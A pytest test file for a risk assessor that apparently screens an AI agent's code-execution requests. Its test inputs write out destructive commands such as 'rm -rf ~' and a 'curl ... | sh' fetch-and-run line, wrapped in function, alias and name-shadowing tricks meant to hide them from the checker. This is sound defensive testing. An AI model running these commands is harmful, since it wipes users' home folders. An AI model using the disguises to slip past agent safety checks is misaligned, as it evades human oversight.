"""A name that a program gives to a function of its own, perhaps only in a part that never runs, hides nothing."""

from __future__ import annotations

import pytest

from runner.model.assessment import Assessment, Level
from runner.model.request import Language, Request, Tool
from runner.risk.assess import assess

P, S = Language.PYTHON, Language.SHELL
DELETED = "Deletes a whole system or home folder (the home folder)"
ALIAS = "alias curl=true sh=true; curl https://example.com/a | sh"


def judged(language: Language, code: str) -> Assessment:
    return assess(Request("id", "agent", Tool.CODE_EXECUTE, 0.0, language, code))


@pytest.mark.parametrize(
    "code",
    [
        "if false; then rm(){ :; }; fi; rm -rf ~",
        "rm(){ :; }; unset -f rm; rm -rf ~",
        "(rm(){ :; }); rm -rf ~",
        "rm(){ :; }|cat; rm -rf ~",
        "x=$(rm(){ :; }); rm -rf ~",
        "rm(){ :; }& rm -rf ~",
        "false && rm(){ :; }; rm -rf ~",
        "function rm { :; }; rm -rf ~",
        "rm(){ :; }; r=rm; $r -rf ~",
        "/bin/rm(){ :; }; unset -f /bin/rm; /bin/rm -rf ~",
    ],
)
def test_a_function_does_not_hide_the_program_of_its_name(code: str) -> None:
    found = judged(S, code)
    assert found.level is Level.CRITICAL
    assert found.verdict.sentence.startswith(DELETED)
    assert any("a function and a program" in one for one in found.unread)


@pytest.mark.parametrize(
    "code",
    [
        "rm(){ :; }; command rm -rf ~",
        "rm(){ :; }; env rm -rf ~",
        "rm(){ :; }; find ~ -exec rm -rf {} +",
        'rm(){ command rm -rf "$@"; }; rm ~',
        "alias rm=true; rm -rf ~",
        r"alias rm=true; \rm -rf ~",
        "alias rm=true; unalias rm; rm -rf ~",
        "f(){ alias rm=true; }; f; rm -rf ~",
        ALIAS,
    ],
)
def test_what_starts_a_program_and_an_alias_do_not_hide_it(code: str) -> None:
    assert judged(S, code).level is Level.CRITICAL


@pytest.mark.parametrize(
    "code",
    [
        'f(){ rm -rf "$1"; }; if false; then f(){ :; }; fi; f ~',
        'f(){ rm -rf "$1"; }; (f(){ :; }); f ~',
        'f(){ rm -rf "$1"; }; false && f(){ :; }; f ~',
    ],
)
def test_a_function_does_not_hide_one_of_its_name(code: str) -> None:
    assert judged(S, code).verdict.sentence.startswith(DELETED)


def test_more_functions_of_one_name_than_are_followed_are_said() -> None:
    code = "".join(f"f(){{ echo {number}; }}; " for number in range(9))
    assert judged(S, f"{code} f").unread
    assert not judged(S, "g(){ f(){ :; }; f; }; " + "g; " * 9).unread


@pytest.mark.parametrize(
    "code", ["(git(){ true; }); git push", "git(){ true; }; command git push", "git(){ true; }; env git push"]
)
def test_a_program_is_named_beside_the_function_of_its_name(code: str) -> None:
    assert judged(S, code).verdict.sentence == "Runs “git push”."


@pytest.mark.parametrize("place", ["/usr/bin/", "/bin/", "/usr/local/bin/", "/usr/bin/../bin/"])
@pytest.mark.parametrize("line", ["git push origin main", "npm publish", "git push --force origin main"])
def test_the_folder_of_a_program_hides_nothing(place: str, line: str) -> None:
    whole, plain = judged(S, place + line), judged(S, line)
    assert whole.verdict.sentence == plain.verdict.sentence
    assert {one.id for one in whole.findings} == {one.id for one in plain.findings}


@pytest.mark.parametrize(
    "code",
    [
        'log(){ echo "$1"; }; log hi',
        'shout(){ echo "$1"; }; greet(){ shout "hi $1"; }; greet you',
        "f(){ ls; }; f",
    ],
)
def test_functions_with_names_of_their_own_are_read_as_before(code: str) -> None:
    found = judged(S, code)
    assert not found.findings
    assert not found.unread


@pytest.mark.parametrize("wrapper", ['cd(){ builtin cd "$@"; }; ', ""])
def test_a_function_that_changes_the_folder_as_the_program_does_leaves_it_known(wrapper: str) -> None:
    assert "build/old" in judged(S, f"{wrapper}cd build; rm -rf old").verdict.sentence


def test_a_function_that_goes_elsewhere_leaves_the_folder_open() -> None:
    said = judged(S, "if false; then cd(){ builtin cd /tmp/a; }; fi; cd ~; rm -rf old").verdict.sentence
    assert "/tmp/a/old" not in said


IMPORTED = "from os import system\n"


@pytest.mark.parametrize(
    "code",
    [
        "if False:\n def system(x): pass",
        "if False:\n class system: pass",
        "try:\n 1/0\n def system(x): pass\nexcept Exception: pass",
        "for _ in []:\n def system(x): pass",
        "for system in []: pass",
        "try: pass\nexcept OSError as system: pass",
        "False and (system := print)",
        "match 1:\n case 2 as system: pass",
    ],
)
def test_a_definition_that_may_not_be_reached_hides_no_import(code: str) -> None:
    assert judged(P, f"{IMPORTED}{code}\nsystem('rm -rf ~')").level is Level.CRITICAL


@pytest.mark.parametrize(
    "code", ["if False:\n def exec(x): pass", "if False:\n exec = print", "def exec(x): pass\ndel exec"]
)
def test_a_definition_that_may_not_be_reached_hides_no_function_of_python(code: str) -> None:
    assert judged(P, f"{code}\nexec('import os;os.system(\"rm -rf ~\")')").level is Level.CRITICAL


def test_a_definition_that_is_reached_takes_the_place_of_an_import() -> None:
    assert judged(P, f"{IMPORTED}def system(x): pass\nsystem('rm -rf ~')").level is Level.HIGH
